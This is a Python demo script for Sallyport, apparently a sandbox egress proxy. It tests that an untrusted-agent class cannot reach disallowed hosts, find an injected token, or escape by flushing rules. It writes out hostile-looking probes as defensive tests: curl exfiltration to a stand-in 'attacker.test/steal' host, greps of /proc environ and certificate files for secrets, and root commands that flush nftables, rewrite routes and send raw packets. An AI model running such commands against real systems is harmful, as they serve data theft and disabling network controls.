"""The story that deploy/demo.sh tells, each step with what is asked, what came back, and how long it took."""

import json
import os
import signal
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests"))
import harness
from harness import Wire, World, binary, read_response

NAMES = {"packages.test": "203.0.113.10", "api.test": "203.0.113.10", "attacker.test": "198.51.100.4"}
TOKEN = "ghp_demo" + os.urandom(12).hex()
BOLD, DIM, GREEN, RED, PLAIN = ("\033[1m", "\033[2m", "\033[32m", "\033[31m", "\033[0m") if sys.stdout.isatty() else ("",) * 5
harness.BINARIES["bearer_token"] = "examples/bearer_token/bearer_token"
failed = []


def title(letter, text):
    print(f"\n{BOLD}({letter}) {text}{PLAIN}")


def show(asked, came_back, seconds, good):
    mark = f"{GREEN}✓{PLAIN}" if good else f"{RED}✗ not as it should be{PLAIN}"
    print(f"  {asked}\n    {DIM}→{PLAIN} {came_back}  {DIM}{seconds * 1000:.0f} ms{PLAIN} {mark}")
    if not good:
        failed.append(asked)


def timed(function, *arguments):
    start = time.monotonic()
    result = function(*arguments)
    return result, time.monotonic() - start


class Story:
    def __init__(self, world):
        self.world = world
        self.started = int(time.time()) - 60

    def sandbox(self, *command):
        """Runs a command by `sallyport run` under the class of the story; its output."""
        arguments = [binary("sallyport"), "run", "--class", "untrusted-agent", "--", *command]
        result = subprocess.run(self.world.host.command(*arguments), capture_output=True, text=True, timeout=60, check=False,
                                env=self.world.environment())
        return (result.stdout + result.stderr).strip()

    def ask(self, command, good):
        output, seconds = timed(self.sandbox, "sh", "-c", command)
        show(command, output.replace("\n", "\n      ") or "(nothing)", seconds, good(output))

    def denied(self):
        title("a", "a host that is not on the list: refused, and its origin sees nothing")
        before = self.world.origin_contacts()
        self.ask("curl -s -w ' [%{http_code}]' --resolve attacker.test:80:198.51.100.4 http://attacker.test/steal?data=1",
                 lambda out: out == "Origin is disallowed [520]")
        self.ask("curl -s -w ' [%{http_code}]' --resolve attacker.test:443:198.51.100.4 https://attacker.test/steal",
                 lambda out: out == "Origin is disallowed [520]")
        contacts = self.world.origin_contacts() - before
        show("how often the origins were contacted meanwhile", str(contacts), 0, contacts == 0)

    def allowed(self):
        title("b", "an allowed host over HTTPS: decrypted, decided, encrypted again, and every client trusts it")
        url = "https://packages.test/left-pad"
        expected = "origin packages.test /left-pad"
        for command in (f"curl -sS {url}",
                        f"/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen(\"{url}\").read().decode())'",
                        f"node -e 'require(\"https\").get(\"{url}\", r => r.on(\"data\", d => process.stdout.write(d)))'"):
            self.ask(command, lambda out: out == expected)

    def secret(self):
        title("c", "a handler adds a token that the sandbox cannot find anywhere")
        before = len(self.world.origin_requests())
        self.ask("curl -sS -o /dev/null -w '%{http_code}' https://api.test/repos", lambda out: out == "200")
        request = self.world.origin_requests()[before]
        got = dict((k.lower(), v) for k, v in request["headers"]).get("authorization", "")
        # Never printed whole: the output may go to a file that the sandbox can read.
        show("what the origin received as `authorization`", f"{got[:19]}… ({len(got)} bytes)", 0, got == f"Bearer {TOKEN}")
        # The pattern must not contain the token, or the search would find itself.
        half = len(TOKEN) // 2
        pattern = f"{TOKEN[:half]}[{TOKEN[half]}]{TOKEN[half + 1:]}"
        seen = ("(env; tr '\\0' '\\n' < /proc/self/environ; cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ; "
                f"cat /etc/sallyport/certs/*; ls -R /run) 2>/dev/null | grep -c '{pattern}'")
        # The token was made for this demo: a file that has it is newer.
        files = ("find /etc /run /tmp /var/tmp /home /root -xdev -maxdepth 4 -type f -size -256k "
                 f"-newermt @{self.started} -print0 2>/dev/null | "
                 f"xargs -0r grep -lF \"$(printf '%s%s' {TOKEN[:half]} {TOKEN[half:]})\" 2>/dev/null | wc -l")
        search = f"{seen}; {files}"
        output, seconds = timed(self.sandbox, "sh", "-c", search)
        show("searching the sandbox for it: environment and /proc, and recent files",
             f"found {output.split()} times", seconds, output.split() == ["0", "0"])

    def keep_alive(self):
        title("d", "RemoveOutboundByHost while a keep-alive connection is open")
        container = self.world.container("untrusted-agent", "web-1")
        request = b"GET /headers HTTP/1.1\r\nHost: api.test\r\n\r\n"
        with container.connect("203.0.113.10", 80) as connection:
            local = connection.getsockname()
            (_, _, body), seconds = timed(self.exchange, connection, request)
            show("first request on the connection", f"the origin sees authorization: {json.loads(body).get('authorization', '(none)')[:14]}…", seconds,
                 json.loads(body).get("authorization") == f"Bearer {TOKEN}")
            answer, seconds = timed(self.world.enforced, "set-outbound-by-host", "web-1", "api.test", "plain")
            show("sallyport set-outbound-by-host web-1 api.test plain", f"revision {answer['revision']}, {answer['enforcement'].lower()}", seconds, True)
            (status, headers, _), seconds = timed(self.exchange, connection, request)
            show("second request, same connection", f"{status} {headers.get('sallyport-reason', '')} (nobody listens for `plain`)", seconds, status == 502)
            answer, seconds = timed(self.world.enforced, "remove-outbound-by-host", "web-1", "api.test")
            show("sallyport remove-outbound-by-host web-1 api.test", f"revision {answer['revision']}, {answer['enforcement'].lower()}", seconds, True)
            (status, _, body), seconds = timed(self.exchange, connection, request)
            show("third request, same connection", f"{status}, decided by the class's rule again", seconds,
                 status == 200 and json.loads(body).get("authorization") == f"Bearer {TOKEN}" and connection.getsockname() == local)
        self.container = container

    @staticmethod
    def exchange(connection, request):
        connection.sendall(request)
        return read_response(connection)

    def enforced_still(self, asked, seconds):
        good = self.container.curl("http://packages.test/")
        bad = self.container.curl("http://attacker.test/", address="198.51.100.4")
        show(asked, f"packages.test {good.status}, attacker.test {bad.status} {bad.reason}", seconds,
             good.status == 200 and bad.status == 520)

    def kills(self):
        title("e", "kill -9 of the control plane, then of the proxy")
        start = time.monotonic()
        self.world.control_plane.kill()
        self.enforced_still("kill -9 sallyportd: still enforced", time.monotonic() - start)
        before = self.world.origin_contacts()
        pid = self.world.proxy_pid()
        os.kill(pid, signal.SIGKILL)
        response, seconds = timed(lambda: self.container.curl("http://attacker.test/", address="198.51.100.4"))
        leaked = self.world.origin_contacts() - before
        show("kill -9 sallyport-proxy, and at once a request to a denied host",
             f"{response.status} {response.reason}; new proxy {self.world.proxy_pid()}; origins contacted {leaked} times", seconds,
             response.status == 520 and leaked == 0 and seconds < 1)
        self.enforced_still("and allowed hosts", 0)
        self.world.start_control_plane()

    def hostile_root(self):
        title("f", "root in the sandbox flushes every rule and tries raw sockets")
        before = self.world.origin_contacts()
        wire = Wire(self.world)
        script = ("nft flush ruleset; ip link add d0 type veth peer name d1; ip link set d0 up; ip link set d1 up; "
                  "ip route flush table local; ip route replace default dev d0; "
                  "curl -s --max-time 1 --resolve packages.test:80:203.0.113.10 http://packages.test/; "
                  "ping -c1 -W1 203.0.113.10 >/dev/null; "
                  "/usr/bin/python3 -c \"import socket as s; r = s.socket(s.AF_INET, s.SOCK_RAW, 255); "
                  "r.sendto(bytes.fromhex('4500002800010000400600000a000002cb00710a109200500000000100000000500204000000') + b'\\0\\0', ('203.0.113.10', 0))\" 2>&1 | tail -1; "
                  "echo done")
        output, seconds = timed(self.sandbox, "sh", "-c", script)
        show("nft flush ruleset; new interface and default route; curl; ping; raw TCP SYN", output.replace("\n", " / "), seconds, output.endswith("done"))
        left = len(wire.frames())
        wire.close()
        show("packets on the wire behind the agent, and origins contacted", f"{left} and {self.world.origin_contacts() - before}", 0,
             left == 0 and self.world.origin_contacts() == before)


def main():
    start = time.monotonic()
    print(f"{BOLD}Sallyport: what leaves a sandbox{PLAIN}\nhosts in namespaces of this demo's own: "
          + ", ".join(f"{name} ({address})" for name, address in NAMES.items()))
    with World(NAMES) as world:
        token_file = os.path.join(world.dir, "token")
        with open(token_file, "w", encoding="ascii", opener=lambda path, flags: os.open(path, flags, 0o600)) as file:
            file.write(TOKEN)
        handler = world.start("handler", [binary("bearer_token"), "--listen", "127.0.0.1:0", "--token-file", token_file,
                                          "--handler", "authenticated-api"], world.host)
        address = handler.await_text(r"listening on (\S+)").group(1)
        world.cli("handler", "register", "authenticated-api", f"grpc://{address}", "--holds-secrets")
        world.cli("handler", "register", "plain", "grpc://127.0.0.1:9")
        world.apply_class("untrusted-agent", enable_internet=False, intercept_https=True, allowed_hosts=["packages.test", "api.test"],
                          outbound_by_host=[["api.test", "authenticated-api"]])
        print(f"class untrusted-agent: internet off, HTTPS intercepted, allowed packages.test and api.test; api.test -> authenticated-api")
        story = Story(world)
        for step in (story.denied, story.allowed, story.secret, story.keep_alive, story.kills, story.hostile_root):
            step()
    print(f"\n{'all steps as they should be' if not failed else f'{len(failed)} steps failed'}, {time.monotonic() - start:.0f} s")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
